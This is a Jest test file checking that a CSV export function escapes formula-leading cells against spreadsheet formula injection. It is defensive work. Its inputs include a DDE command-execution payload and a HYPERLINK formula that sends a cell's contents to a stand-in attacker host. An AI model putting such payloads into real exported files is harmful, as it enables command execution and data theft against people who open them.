/** @jest-environment node */
import Papa from 'papaparse';
import type { Json } from '../../../model';
import { csvText } from './csvText';

const cell = (value: Json) => Papa.parse<string[]>(csvText([[value, 'x']])).data[0]?.[0];

describe('a cell of CSV', () => {
  it.each([
    ['=1+1'],
    ['+1+1'],
    ['-1+1'],
    ['@SUM(A1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['\ttext'],
    ['  =1+1'],
    ['\u00a0=1+1'],
    ['\ufeff=1+1'],
    ['\u0000=1+1'],
    ['\u200b=1+1'],
    ['"=1+1"'],
    ["'=1+1"],
    ['＝1+1'],
    ['－1+1'],
    ["=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['=1+1\nand a second line'],
    ['-5 GB'],
    ['+49 30 123456'],
    ['-1+cmd|x'],
    ['-'],
  ])('that is %j is no formula', value => {
    const text = cell(value);
    expect(text).toBe(`'${value.replace(/^([\t\r\n])(?==)/, "$1'")}`);
    expect(text).toMatch(/^'/);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a;"=1+1', `a;"'=1+1`],
    ['a\t@x', "a\t'@x"],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r\n+1', "a\r\n'+1"],
    ['a| -1', "a| '-1"],
  ])('that is %j hides none behind another sign for the next cell', (value, text) => {
    expect(cell(value)).toBe(text);
  });

  it.each([
    ['-5', '-5'],
    ['+5', '+5'],
    ['-1,234.5', '-1,234.5'],
    ['-1.234,5', '-1.234,5'],
    ['-.5', '-.5'],
    ['-5e-7', '-5e-7'],
    ['-12 %', '-12 %'],
    [-5, '-5'],
    [1e21, '1e+21'],
    ['12345678901234567890', '12345678901234567890'],
    [0, '0'],
    [false, 'false'],
    [null, ''],
    ['', ''],
    ['a-b=c@d+e', 'a-b=c@d+e'],
    ['a, b', 'a, b'],
    ['say "hi"', 'say "hi"'],
    ['two\r\nlines', 'two\r\nlines'],
    [' padded ', ' padded '],
    ['größer 大 🎉', 'größer 大 🎉'],
    [{ a: [1] }, '{"a":[1]}'],
    [['=1'], '["=1"]'],
  ] as Array<[Json, string]>)('that is %j stays as it is', (value, text) => {
    expect(cell(value)).toBe(text);
  });
});

describe('rows of CSV', () => {
  it('end in CRLF, each of them, and quote what has to be', () => {
    expect(csvText([['a', 'b,c'], ['d"e', null]])).toBe('a,"b,c"\r\n"d""e",\r\n');
  });

  it('of one column are rows where the cell is empty', () => {
    const text = csvText([['a'], [null], ['']]);
    expect(Papa.parse<string[]>(text.trimEnd()).data).toEqual([['a'], [''], ['']]);
    expect(text).toBe('a\r\n""\r\n""\r\n');
  });

  it('have titles that are no formulas', () => {
    expect(csvText([['=title']])).toBe(`"'=title"\r\n`);
  });
});
